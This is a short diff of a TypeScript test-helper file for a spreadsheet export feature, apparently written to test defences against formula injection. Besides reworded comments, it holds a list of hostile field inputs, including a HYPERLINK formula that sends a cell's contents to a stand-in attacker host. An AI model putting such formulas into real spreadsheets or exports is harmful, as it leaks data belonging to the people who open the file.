@@ -7,7 +7,7 @@ export const tools = {
   onRows: () => undefined,
 };
 
-/** A sink that keeps what it is given. */
+/** A sink that stores what it receives. */
 export function collected(): Sink & { readonly bytes: () => Buffer } {
   const pieces: Uint8Array[] = [];
   return {
@@ -18,7 +18,7 @@ export function collected(): Sink & { readonly bytes: () => Buffer } {
 
 export type Row = readonly (string | number | Date | null)[];
 
-/** A table of rows as they stand, with columns of these kinds. */
+/** A table of these rows, with columns of these types. */
 export function tableOf(kinds: readonly TableColumn<Row>['kind'][], rows: readonly Row[]): ExportTable<Row> {
   return {
     title: 'Clients',
@@ -29,7 +29,7 @@ export function tableOf(kinds: readonly TableColumn<Row>['kind'][], rows: readon
   };
 }
 
-/** What somebody might put into a field to have it run in a colleague's spreadsheet. */
+/** Texts that an attacker might enter to have them run in a colleague's spreadsheet. */
 export const HOSTILE = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
